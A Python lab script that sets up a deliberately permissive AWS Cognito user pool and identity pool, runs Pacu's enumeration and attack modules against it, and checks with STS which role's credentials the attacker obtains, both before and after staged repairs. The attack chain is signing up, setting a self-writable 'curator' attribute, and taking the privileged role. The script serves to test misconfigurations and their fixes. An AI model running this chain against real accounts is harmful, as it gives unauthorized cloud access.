"""Pacu's two modules for Cognito, in batch, at an account that lets too much in, and after its repairs."""

import json
import os
import re
import subprocess
import tempfile
import urllib.request

import boto3

REGION, PASSWORD, MAIL = "us-east-1", "Tide-pools-2026!", "rook@elsewhere.example"
url = os.environ["AWS_ENDPOINT_URL"]
owner = boto3.Session("test", "test", region_name=REGION)
pools, identities, iam = (owner.client(name) for name in ("cognito-idp", "cognito-identity", "iam"))

# Anybody may sign up, guests get credentials, and who writes that they are a curator is one.
pool = pools.create_user_pool(
    PoolName="open",
    AutoVerifiedAttributes=["email"],
    Schema=[{"Name": "position", "AttributeDataType": "String", "Mutable": True}],
)["UserPool"]["Id"]
flows = ["ALLOW_USER_SRP_AUTH", "ALLOW_REFRESH_TOKEN_AUTH"]
app = pools.create_user_pool_client(UserPoolId=pool, ClientName="web", ExplicitAuthFlows=flows)
app = app["UserPoolClient"]["ClientId"]
issuer = f"cognito-idp.{REGION}.amazonaws.com/{pool}"
shop = identities.create_identity_pool(
    IdentityPoolName="open",
    AllowUnauthenticatedIdentities=True,
    CognitoIdentityProviders=[{"ProviderName": issuer, "ClientId": app}],
)
trust = {
    "Effect": "Allow",
    "Action": "sts:AssumeRoleWithWebIdentity",
    "Principal": {"Federated": "cognito-identity.amazonaws.com"},
    "Condition": {"StringEquals": {"cognito-identity.amazonaws.com:aud": shop["IdentityPoolId"]}},
}
document = json.dumps({"Version": "2012-10-17", "Statement": [trust]})
guest, member, curator = (
    iam.create_role(RoleName=name, AssumeRolePolicyDocument=document)["Role"]["Arn"]
    for name in ("guest", "member", "curator")
)
curators = {"Claim": "custom:position", "MatchType": "Equals", "Value": "curator", "RoleARN": curator}
by_rule = {"Type": "Rules", "RulesConfiguration": {"Rules": [curators]}}


def map_roles(mapping):
    identities.set_identity_pool_roles(
        IdentityPoolId=shop["IdentityPoolId"],
        Roles={"authenticated": member, "unauthenticated": guest},
        RoleMappings={f"{issuer}:{app}": {**mapping, "AmbiguousRoleResolution": "AuthenticatedRole"}},
    )


map_roles(by_rule)
iam.create_user(UserName="rook")  # without a right
rook = iam.create_access_key(UserName="rook")["AccessKey"]

ANSWERS = {  # by how a question begins; None is the code from the mail
    "Enter verification code": None,
    "Enter attribute name": "custom:position",
    "Enter attribute value": "curator",
    "Authenticate again": "y",
    "Do you want": "",
    "Send new": "",
    "Modify more": "",
    "Enter ": "",
}
home = tempfile.TemporaryDirectory()
plain = {name: value for name, value in os.environ.items() if not name.startswith("AWS_")}
plain |= {"AWS_ENDPOINT_URL": url, "HOME": home.name, "PYTHONUNBUFFERED": "1"}


def pacu(*words):
    """What Pacu prints, whose questions are answered."""
    running = subprocess.Popen(
        ["pacu", "-q", *words],
        env=plain, text=True, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
    )  # fmt: skip
    said, answered = "", 0
    while letter := running.stdout.read(1):
        said += letter
        asked = said[answered:].rpartition("\n")[2].lstrip()
        question = next((start for start in ANSWERS if asked.startswith(start)), "")
        if question and letter == ":":
            answer = ANSWERS[question]
            running.stdin.write(f"{mail()[-1]['code'] if answer is None else answer}\n")
            running.stdin.flush()
            answered = len(said)
    running.wait()
    return said


def mail():
    return json.loads(urllib.request.urlopen(f"{url}/_lab/inbox/{MAIL}").read())


def module(name, arguments, key, secret):
    pacu("--session", "lab", "--set-keys", f"{name},{key},{secret},")
    return pacu("--session", "lab", "--module-name", name, "--exec", f"--module-args={arguments}")


def tried():
    """What an auditor of the account finds, and what Rook gets, who knows two ids that are no secrets."""
    found = module("cognito__enum", f"--regions {REGION}", "test", "test")
    got = module(
        "cognito__attack",
        f"--username rook --password {PASSWORD} --email {MAIL} --regions {REGION} "
        f"--user_pool_clients {app}@{pool} --identity_pools {shop['IdentityPoolId']}",
        rook["AccessKeyId"],
        rook["SecretAccessKey"],
    )
    return {
        "pools found": f"user pool {pool}" in found and f"identity pool {shop['IdentityPoolId']}" in found,
        "guests found": "Identity id successfully retrieved" in found,
        "account": "Successfully signed up user rook" in got,
        "attribute": "Attribute updated!" in got,
        "credentials": [role_of(*keys) for keys in KEYS.findall(got)],
    }


LINE = r"\.\s+(?:\[\w+\] )?(\S+)\s+(?:\[\w+\] )?"  # which Pacu begins with the module's name, or does not
KEYS = re.compile(rf"Access Key ID found{LINE}Secret Key found{LINE}Session Token found{LINE}")


def role_of(key, secret, token):
    """Whose credentials these are, as STS says: they work."""
    session = boto3.Session(key, secret, token, REGION)
    arn = session.client("sts").get_caller_identity()["Arn"]
    return arn.split("/")[1]


def throw_out_rook():
    pools.admin_delete_user(UserPoolId=pool, Username="rook")


pacu("--new-session", "lab")
told = {"open": tried()}
# No guests, and a curator is who is in a group. Who signs up is a member, and no more.
throw_out_rook()
shop.pop("ResponseMetadata")
identities.update_identity_pool(**shop | {"AllowUnauthenticatedIdentities": False})
map_roles({"Type": "Token"})
told["for members"] = tried()
# Only an administrator makes accounts.
throw_out_rook()
pools.update_user_pool(
    UserPoolId=pool,
    AutoVerifiedAttributes=["email"],
    AdminCreateUserConfig={"AllowAdminCreateUserOnly": True},
)
told["repaired"] = tried()
home.cleanup()
print(json.dumps(told))
